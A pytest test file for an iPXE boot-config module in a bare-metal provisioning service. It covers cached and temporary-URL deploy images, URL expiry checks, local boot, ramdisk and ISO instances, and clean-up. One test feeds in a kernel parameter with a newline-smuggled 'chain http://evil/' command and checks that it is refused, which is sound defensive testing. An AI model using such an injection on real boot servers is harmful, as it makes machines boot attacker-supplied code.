"""IpxeBoot: a node's deploy boot with cached files or temp URLs, local boot, clean-up."""

from __future__ import annotations

import dataclasses
import os
import pathlib

import pytest
from oslo_config import cfg

from ingot.boot.errors import BootConfigError, UrlExpiresTooSoon
from ingot.boot.ipxe import IpxeBoot, NodeBoot
from ingot.boot.settings import PxeSettings
from ingot.boot.sources import BootUrl, CachedFile
from ingot.conf import conductor, default, pxe
from tests.boot.conftest import API_URL, HTTP_URL, NODE, SIG, TEMP_KERNEL, TEMP_RAMDISK

MACS = ("52:54:00:12:34:56",)
NOW = 1_800_000_000.0


def settings(tmp_path: pathlib.Path, **overrides: object) -> PxeSettings:
    conf = cfg.ConfigOpts()
    for module in (default, conductor, pxe):
        module.register(conf)
    conf([], project="ingot-test")
    conf.set_override("http_root", str(tmp_path / "httpboot"), group="deploy")
    conf.set_override("http_url", HTTP_URL, group="deploy")
    result = PxeSettings.from_conf(conf)
    return dataclasses.replace(result, **overrides)  # type: ignore[arg-type]


@pytest.fixture
def cache(tmp_path: pathlib.Path) -> dict[str, CachedFile]:
    directory = tmp_path / "cache"
    directory.mkdir()
    files = {}
    for label in ("deploy_kernel", "deploy_ramdisk"):
        (directory / label).write_bytes(label.encode())
        files[label] = CachedFile(directory / label)
    return files


def node(**changes: object) -> NodeBoot:
    return dataclasses.replace(NodeBoot(uuid=NODE, pxe_macs=MACS), **changes)  # type: ignore[arg-type]


def test_cached_files_are_linked_and_served_from_http_url(tmp_path: pathlib.Path,
                                                          cache: dict[str, CachedFile]
                                                          ) -> None:
    boot = IpxeBoot(settings(tmp_path))
    prepared = boot.prepare_deploy(node(), kernel=cache["deploy_kernel"],
                                   ramdisk=cache["deploy_ramdisk"],
                                   ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    root = tmp_path / "httpboot"
    assert prepared.boot_script_written == root / "boot.ipxe"
    assert [p.method for p in prepared.placed] == ["link", "link"]
    assert (root / NODE / "deploy_kernel").read_bytes() == b"deploy_kernel"
    text = (root / "pxelinux.cfg" / "52-54-00-12-34-56").read_text()
    assert text == prepared.config.text
    assert f" {HTTP_URL}/{NODE}/deploy_kernel nofb vga=normal ipa-api-url={API_URL} " in text
    assert f" {HTTP_URL}/{NODE}/deploy_ramdisk || goto" in text
    assert prepared.expires_at is None


def test_temp_urls_skip_the_http_root(tmp_path: pathlib.Path,
                                      cache: dict[str, CachedFile]) -> None:
    boot = IpxeBoot(settings(tmp_path))
    # An earlier deploy left local copies; they must not linger.
    boot.prepare_deploy(node(), kernel=cache["deploy_kernel"],
                        ramdisk=cache["deploy_ramdisk"],
                        ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    prepared = boot.prepare_deploy(
        node(), kernel=BootUrl(TEMP_KERNEL, NOW + 4000),
        ramdisk=BootUrl(TEMP_RAMDISK, NOW + 3000),
        ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    node_dir = tmp_path / "httpboot" / NODE
    assert sorted(p.name for p in node_dir.iterdir()) == ["config", "mac_links"]
    assert prepared.placed == ()
    assert {p.name for p in prepared.removed} == {"deploy_kernel", "deploy_ramdisk"}
    assert prepared.expires_at == NOW + 3000
    assert TEMP_KERNEL in prepared.config.text and TEMP_RAMDISK in prepared.config.text
    assert SIG not in repr(prepared)


def test_only_the_file_with_a_temp_url_skips_the_cache(tmp_path: pathlib.Path,
                                                       cache: dict[str, CachedFile]) -> None:
    """use_swift with a kernel in Swift and a ramdisk that is not: the ramdisk is still
    served locally (Ironic would drop it and the machine would get a 404)."""
    boot = IpxeBoot(settings(tmp_path, use_swift=True))
    prepared = boot.prepare_deploy(node(), kernel=BootUrl(TEMP_KERNEL, NOW + 4000),
                                   ramdisk=cache["deploy_ramdisk"],
                                   ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    node_dir = tmp_path / "httpboot" / NODE
    assert sorted(p.name for p in node_dir.iterdir()) == ["config", "deploy_ramdisk",
                                                          "mac_links"]
    assert f"{HTTP_URL}/{NODE}/deploy_ramdisk" in prepared.config.text
    assert prepared.kernel_url is not None and prepared.kernel_url.url == TEMP_KERNEL


def test_temp_url_must_outlive_the_deploy_callback_window(tmp_path: pathlib.Path,
                                                          cache: dict[str, CachedFile]
                                                          ) -> None:
    boot = IpxeBoot(settings(tmp_path))  # deploy_callback_timeout 1800, no retries
    assert boot.settings.url_lifetime_needed == 1800 + 60
    with pytest.raises(UrlExpiresTooSoon) as caught:
        boot.prepare_deploy(node(), kernel=BootUrl(TEMP_KERNEL, NOW + 1200),
                            ramdisk=cache["deploy_ramdisk"],
                            ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    assert caught.value.field == "deploy_kernel URL"
    assert not (tmp_path / "httpboot").exists()  # refused before anything was written
    # With PXE retries every 600 s the conductor re-renders in time: 1200 s is enough.
    retrying = IpxeBoot(settings(tmp_path, boot_retry_timeout=600))
    prepared = retrying.prepare_deploy(node(), kernel=BootUrl(TEMP_KERNEL, NOW + 1200),
                                       ramdisk=cache["deploy_ramdisk"],
                                       ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    assert prepared.config.usable_for(600, now=NOW)


def test_switch_to_local_boot_re_renders_and_drops_deploy_files(
        tmp_path: pathlib.Path, cache: dict[str, CachedFile]) -> None:
    boot = IpxeBoot(settings(tmp_path))
    boot.prepare_deploy(node(), kernel=cache["deploy_kernel"],
                        ramdisk=cache["deploy_ramdisk"],
                        ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    local = boot.prepare_local_boot(node(boot_mode="uefi"))
    root = tmp_path / "httpboot"
    text = (root / "pxelinux.cfg" / "52-54-00-12-34-56").read_text()
    assert text == local.config.text and "kernel " not in text and "exit 0" in text
    assert {p.name for p in local.removed} == {"deploy_kernel", "deploy_ramdisk"}
    assert sorted(p.name for p in (root / NODE).iterdir()) == ["config", "mac_links"]
    assert cache["deploy_kernel"].path.exists()


def test_node_kernel_params_and_extra_params_reach_the_config(
        tmp_path: pathlib.Path, cache: dict[str, CachedFile]) -> None:
    boot = IpxeBoot(settings(tmp_path))
    prepared = boot.prepare_deploy(
        node(instance_info={"kernel_append_params": "%default% console=ttyS0"}),
        kernel=cache["deploy_kernel"], ramdisk=cache["deploy_ramdisk"],
        ramdisk_params={"ipa-api-url": API_URL, "ipa-debug": "1"}, now=NOW)
    kernel_line = next(line for line in prepared.config.text.splitlines()
                       if line.startswith("kernel "))
    assert (f"nofb vga=normal console=ttyS0 ipa-api-url={API_URL} BOOTIF=${{mac}} "
            f"ipa-debug=1 initrd=deploy_ramdisk || goto ingot_retry") in kernel_line


def test_refused_params_leave_the_previous_config_in_place(
        tmp_path: pathlib.Path, cache: dict[str, CachedFile]) -> None:
    boot = IpxeBoot(settings(tmp_path))
    first = boot.prepare_deploy(node(), kernel=cache["deploy_kernel"],
                                ramdisk=cache["deploy_ramdisk"],
                                ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    with pytest.raises(BootConfigError) as caught:
        boot.prepare_deploy(
            node(driver_info={"kernel_append_params": "quiet\nchain http://evil/"}),
            kernel=cache["deploy_kernel"], ramdisk=cache["deploy_ramdisk"],
            ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    assert caught.value.field == "driver_info.kernel_append_params"
    assert first.written.config.read_text() == first.config.text


def test_missing_api_url_or_http_url_is_an_error(tmp_path: pathlib.Path,
                                                 cache: dict[str, CachedFile]) -> None:
    boot = IpxeBoot(settings(tmp_path))
    with pytest.raises(BootConfigError, match="ipa-api-url"):
        boot.prepare_deploy(node(), kernel=cache["deploy_kernel"],
                            ramdisk=cache["deploy_ramdisk"], ramdisk_params={}, now=NOW)
    no_url = IpxeBoot(settings(tmp_path, http_url=None))
    with pytest.raises(BootConfigError, match=r"\[deploy\] http_url"):
        no_url.prepare_deploy(node(), kernel=cache["deploy_kernel"],
                              ramdisk=cache["deploy_ramdisk"],
                              ramdisk_params={"ipa-api-url": API_URL}, now=NOW)


def test_clean_up_after_undeploy(tmp_path: pathlib.Path,
                                 cache: dict[str, CachedFile]) -> None:
    boot = IpxeBoot(settings(tmp_path))
    boot.prepare_deploy(node(), kernel=cache["deploy_kernel"],
                        ramdisk=cache["deploy_ramdisk"],
                        ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    removed = boot.clean_up(NODE, MACS)
    root = tmp_path / "httpboot"
    assert root / NODE in removed and root / "pxelinux.cfg" / "52-54-00-12-34-56" in removed
    assert sorted(os.listdir(root)) == ["boot.ipxe", "pxelinux.cfg"]
    assert os.listdir(root / "pxelinux.cfg") == []


def test_ramdisk_instance_boots_its_kernel_with_its_own_params(
        tmp_path: pathlib.Path, cache: dict[str, CachedFile]) -> None:
    """A ramdisk instance's config: its kernel and ramdisk (temp URLs or the HTTP root),
    its kernel_append_params, no agent parameter; the deploy files of the agent go."""
    boot = IpxeBoot(settings(tmp_path))
    boot.prepare_deploy(node(), kernel=cache["deploy_kernel"],
                        ramdisk=cache["deploy_ramdisk"],
                        ramdisk_params={"ipa-api-url": API_URL}, now=NOW)
    instance = tmp_path / "instance-kernel"
    instance.write_bytes(b"instance kernel")
    prepared = boot.prepare_ramdisk_instance(
        node(instance_info={"kernel_append_params": "console=ttyS0 quiet"}),
        kernel=CachedFile(instance), ramdisk=BootUrl(TEMP_RAMDISK, NOW + 60),
        valid_for=30, now=NOW)
    node_dir = tmp_path / "httpboot" / NODE
    assert sorted(p.name for p in node_dir.iterdir()) == ["config", "kernel", "mac_links"]
    text = prepared.config.text
    assert f" {HTTP_URL}/{NODE}/kernel console=ttyS0 quiet initrd=ramdisk " in text
    assert TEMP_RAMDISK in text and "ipa-api-url" not in text
    assert prepared.expires_at == NOW + 60
    with pytest.raises(UrlExpiresTooSoon):
        boot.prepare_ramdisk_instance(node(), kernel=CachedFile(instance),
                                      ramdisk=BootUrl(TEMP_RAMDISK, NOW + 60),
                                      valid_for=120, now=NOW)


def test_ramdisk_instance_from_an_iso_sanboots_it(tmp_path: pathlib.Path,
                                                  cache: dict[str, CachedFile]) -> None:
    """instance_info boot_iso: a cached ISO is served from the HTTP root and sanbooted;
    one in Swift is sanbooted from its temp URL, and the cached copy goes."""
    boot = IpxeBoot(settings(tmp_path))
    instance = tmp_path / "instance-kernel"
    instance.write_bytes(b"instance kernel")
    boot.prepare_ramdisk_instance(node(), kernel=CachedFile(instance),
                                  ramdisk=BootUrl(TEMP_RAMDISK, None), valid_for=None)
    iso = tmp_path / "instance.iso"
    iso.write_bytes(b"iso")
    prepared = boot.prepare_iso_instance(node(boot_mode="uefi"), iso=CachedFile(iso),
                                         valid_for=None, now=NOW)
    node_dir = tmp_path / "httpboot" / NODE
    assert sorted(p.name for p in node_dir.iterdir()) == ["boot_iso", "config", "mac_links"]
    assert (node_dir / "boot_iso").read_bytes() == b"iso"
    text = (tmp_path / "httpboot" / "pxelinux.cfg" / "52-54-00-12-34-56").read_text()
    assert text == prepared.config.text
    assert f"sanboot --no-describe {HTTP_URL}/{NODE}/boot_iso || goto ingot_retry" in text
    assert "(uefi)" in text and "kernel " not in text and prepared.expires_at is None

    in_swift = boot.prepare_iso_instance(node(), iso=BootUrl(TEMP_KERNEL, NOW + 60),
                                         valid_for=30, now=NOW)
    assert f"sanboot --no-describe {TEMP_KERNEL} " in in_swift.config.text
    assert in_swift.expires_at == NOW + 60
    assert not (node_dir / "boot_iso").exists()
    with pytest.raises(UrlExpiresTooSoon):
        boot.prepare_iso_instance(node(), iso=BootUrl(TEMP_KERNEL, NOW + 60),
                                  valid_for=120, now=NOW)
    with pytest.raises(BootConfigError):
        boot.prepare_iso_instance(node(), iso=CachedFile(tmp_path / "gone.iso"),
                                  valid_for=None, now=NOW)
